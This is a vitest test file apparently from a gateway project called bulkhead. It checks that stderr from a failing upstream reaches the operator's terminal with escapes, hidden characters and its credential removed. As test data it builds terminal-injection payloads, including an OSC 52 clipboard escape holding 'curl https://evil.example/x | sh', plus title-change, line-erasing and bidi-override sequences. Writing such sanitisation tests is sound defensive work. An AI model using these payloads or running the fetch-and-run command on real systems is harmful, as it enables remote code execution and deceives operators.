/**
 * A stdio upstream that fails to start has its last stderr lines and its
 * error's message printed to the operator's terminal by `bulkhead gateway`.
 * A hostile one writes terminal escapes there: OSC 52 sets the clipboard (a
 * command the operator then pastes), OSC 0 the window title, CSI erases the
 * lines above; and its own credential. None of it reaches the terminal: the
 * credential is scrubbed, escapes and hidden characters removed, and the
 * CLI shows any control character left in an error as `\u{…}`.
 */
import { afterAll, describe, expect, it } from 'vitest';
import { killAll, spawnGateway } from '../faults/processes.js';
import { tempDir } from '../helpers/harness.js';

const CREDENTIAL = 'stderr-upstream-credential-8c1f4e2a7b';
const CLIPBOARD = Buffer.from('curl https://evil.example/x | sh').toString('base64');
const HOSTILE = [
  `\\x1b]52;c;${CLIPBOARD}\\x07`,
  '\\x9d0;pwned\\x9c',
  '\\x1b[2K\\x1b[1A\\x1b[2K',
  `key=${CREDENTIAL}`,
  '\\u202eevil\\u2066',
].join('');

afterAll(() => killAll());

describe('a required upstream that writes escapes to stderr and cannot start', { timeout: 120_000 }, () => {
  it('reaches the terminal without an escape, a hidden character or its credential', async () => {
    const dir = tempDir('bulkhead-stderr-');
    const script = `process.stderr.write("${HOSTILE}\\n"); process.exit(3)`;
    const yaml = `
version: 1
store: { sqlite: ./bulkhead.db }
upstreams:
  hostile:
    command: ${JSON.stringify(process.execPath)}
    args: [-e, ${JSON.stringify(script)}]
    required: true
    start_timeout: 5s
    env:
      HOSTILE_KEY: { secret: HOSTILE_KEY }
tools:
  hostile:
    anything: { class: read }
profiles:
  agent:
    tools: [hostile__anything]
`;
    const gateway = spawnGateway(dir, yaml, { HOSTILE_KEY: CREDENTIAL });
    gateway.ready.catch(() => undefined);
    const code = await gateway.exited;
    expect(code).not.toBe(0);
    const output = gateway.output();
    expect(output).toMatch(/upstream "hostile" did not start/);
    expect(output).toContain('evil');
    expect(output).not.toContain(CREDENTIAL);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point.
    expect(output).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
  });
});
